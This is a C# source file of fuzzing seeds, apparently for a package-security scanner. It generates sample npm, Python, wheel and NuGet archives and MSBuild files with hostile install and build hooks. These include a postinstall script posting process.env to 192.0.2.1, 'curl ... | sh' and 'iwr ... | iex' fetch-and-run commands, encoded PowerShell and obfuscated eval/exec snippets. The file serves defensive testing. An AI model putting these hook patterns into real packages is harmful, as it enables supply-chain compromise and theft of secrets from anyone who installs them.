namespace Wellguard.Fuzz.Seeds;

/// <summary>Packages as they are published, made by this machine's tools; build files; programs that compute their texts.</summary>
internal static class PublishedSeeds
{
    private const string Maker = """
        import io, json, tarfile, zipfile
        def tar(path, files, mode):
            with tarfile.open(path, mode, format=tarfile.USTAR_FORMAT) as t:
                for name, text in files.items():
                    info = tarfile.TarInfo(name); data = text.encode(); info.size = len(data); info.mode = 0o644
                    t.addfile(info, io.BytesIO(data))
        def zip_(path, files):
            with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as z:
                for name, text in files.items(): z.writestr(name, text)
        npm = {'package/package.json': json.dumps({'name': 'a', 'version': '1.0.0', 'main': 'lib/index.js', 'bin': {'a': 'cli.js'}, 'scripts': {'postinstall': 'node setup.js'}, 'dependencies': {'b': '^1'}}),
               'package/lib/index.js': "const t = require('./t')\nmodule.exports = () => t.x + 1\n", 'package/lib/t.js': "exports.x = 'aWQ='\n", 'package/cli.js': "#!/usr/bin/env node\nrequire('./lib')()\n",
               'package/setup.js': "const c = require('child_process')\nc.execSync(Buffer.from(require('./lib/t').x, 'base64').toString())\nfetch('http://192.0.2.1/x', { method: 'POST', body: JSON.stringify(process.env) })\n", 'package/binding.gyp': "{'targets': [{'target_name': 'a', 'sources': ['a.c']}]}"}
        tar('a.tgz', npm, 'w:gz'); tar('a.tar', npm, 'w')
        sdist = {'p-1.0/PKG-INFO': 'Metadata-Version: 2.1\nName: p\nVersion: 1.0\nRequires-Dist: q\n', 'p-1.0/setup.py': "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('id')\nsetup(name='p', cmdclass={'install': I})\n",
                 'p-1.0/p/__init__.py': 'from .m import *\n', 'p-1.0/p/m.py': "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", 'p-1.0/pyproject.toml': "[build-system]\nrequires = ['setuptools']\n"}
        tar('p.tar.gz', sdist, 'w:gz'); tar('p.tar', sdist, 'w')
        zip_('p.whl', {'p/__init__.py': "import urllib.request\nurllib.request.urlopen('http://192.0.2.1/x').read()\n", 'p-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: p\nVersion: 1.0\n', 'p-1.0.dist-info/WHEEL': 'Wheel-Version: 1.0\n', 'p-1.0.dist-info/RECORD': 'p/__init__.py,,\n', 'p-1.0.dist-info/entry_points.txt': '[console_scripts]\np = p:main\n', 'p.pth': 'import p\n'})
        zip_('n.nupkg', {'n.nuspec': '<package><metadata><id>n</id><version>1.0.0</version><authors>a</authors><description>d</description><dependencies><group targetFramework="net8.0"><dependency id="b" version="1"/></group></dependencies></metadata></package>',
                         'build/n.targets': '<Project><Target Name="t" BeforeTargets="Build"><Exec Command="curl http://192.0.2.1/x | sh"/></Target></Project>', 'tools/init.ps1': "param($p)\niwr http://192.0.2.1/x | iex\n", 'lib/net8.0/n.dll': 'MZ', '[Content_Types].xml': '<Types/>', '_rels/.rels': '<Relationships/>'})
        """;

    public static IEnumerable<byte[]> Archives()
    {
        using var shop = new Workshop();
        shop.Run("python3", "-c", Maker);
        return [.. new[] { "a.tgz", "a.tar", "p.tar.gz", "p.tar", "p.whl", "n.nupkg" }.SelectMany(name => shop.Made(name).Select(bytes => SeedSource.Labelled(name, bytes)))];
    }

    public static IEnumerable<byte[]> BuildFiles() =>
        SeedSource.Folder("src", "*.csproj", deep: true).Concat(SeedSource.Folder(".", "Directory.*.targets")).Concat(SeedSource.Folder(".", "Directory.*.props")).Select(SeedSource.Read).Concat(((string[])
        [
            "<Project><Target Name=\"t\" AfterTargets=\"Build\"><Exec Command=\"powershell -enc aQBkAA==\" Condition=\"'$(OS)' == 'Windows_NT'\"/><DownloadFile SourceUrl=\"http://192.0.2.1/x\" DestinationFolder=\"$(TEMP)\"/></Target></Project>",
            "<Project><UsingTask TaskName=\"T\" TaskFactory=\"RoslynCodeTaskFactory\" AssemblyFile=\"$(MSBuildToolsPath)/Microsoft.Build.Tasks.Core.dll\"><Task><Using Namespace=\"System\"/><Code Type=\"Fragment\" Language=\"cs\"><![CDATA[ System.Diagnostics.Process.Start(\"sh\", \"-c id\"); ]]></Code></Task></UsingTask><Target Name=\"a\" BeforeTargets=\"Restore\"><T/></Target></Project>",
            "<?xml version=\"1.0\"?><Project xmlns=\"http://schemas.microsoft.com/developer/msbuild/2003\"><PropertyGroup><A>$([System.IO.File]::ReadAllText('x'))</A></PropertyGroup><Import Project=\"b.props\"/></Project>",
        ]).Select(System.Text.Encoding.UTF8.GetBytes));

    public static IEnumerable<byte[]> Expressions()
    {
        foreach (var code in (string[])
        [
            "exec(''.join(chr(ord(c) ^ 3) for c in 'jqlsv'[::-1]))\nx = '%s-%02x' % ('a', 255)\ny = '{}{a:>5}'.format(x, a=f\"{1 + 2:03d}{'q'!r}\")\n",
            "import zlib, base64, itertools\nk = b'key'\nd = bytes(a ^ b for a, b in zip(base64.b64decode('AAECAwQ='), itertools.cycle(k)))\nexec(zlib.decompress(d).decode() if len(d) > 2 else 'pass')\n",
            "(lambda f, *a, k=1: f(f, *a))(lambda g, n=3: n and g(g, n - 1), 2)\n[i * 2 for i, c in enumerate('abc') if c not in 'b'][0:-1:2]\n",
            "\uff45\uff58\uff45\uff43('1')\ngetattr(__import__('bu' + 'iltins'), 'ev' 'al')('1 + 1')\nwhile True: x += x\n",
        ])
        {
            yield return SeedSource.Labelled("python", code);
        }

        foreach (var code in (string[])
        [
            "const [a, b] = ['ev', 'al']; globalThis[a + b](String.fromCharCode(...[52, 53].map(c => c ^ 1)));\n`${'a'.repeat(3)}-${[3, 2, 1].reverse().join('')}${typeof 1}`\n",
            "(function (x, y) { while (true) { try { if (parseInt(x(1)) / 1 === y) break; else z.push(z.shift()) } catch (e) { z.push(z.shift()) } } })(f, 0x1f);\nvar z = ['a', 'b'];function f(i) { return z[i - 0] }\n",
            "eval(Buffer.from('636f6e736f6c65', 'hex').toString().split('').filter((c, i) => i % 2 || true).slice(-4, 9).substr?.(1, 2) ?? 'x');\nr\\u0065quire('child_' + atob('cHJvY2Vzcw==')).exec(x > 1 ? 'id' : '')\n",
            "x = 1 & 2 | 3 ^ 4 << 5 >>> 1; y = -2 ** 2, z = { k: 'v', ['l' + 1]: [...'abc'] }.l1[0]; (0, eval)(decodeURIComponent('%61') + unescape('%u0062'))\n",
        ])
        {
            yield return SeedSource.Labelled("javascript", code);
        }
    }
}
